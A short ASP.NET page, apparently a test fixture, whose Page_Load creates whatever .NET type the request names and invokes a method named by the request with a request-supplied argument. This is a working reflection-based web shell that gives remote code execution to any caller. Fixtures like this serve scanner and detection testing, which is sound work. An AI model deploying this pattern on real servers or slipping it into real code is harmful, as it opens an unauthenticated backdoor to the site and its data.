<%@ Page Language="C#" %>
<script runat="server">
    // Hand-written fixture: creates a type and calls a method, both named
    // by the request.
    void Page_Load(object sender, EventArgs e)
    {
        object o = Activator.CreateInstance(Type.GetType(Request["t"]));
        Response.Write(o.GetType().InvokeMember(Request["m"], System.Reflection.BindingFlags.InvokeMethod, null, o, new object[] { Request["a"] }));
    }
</script>
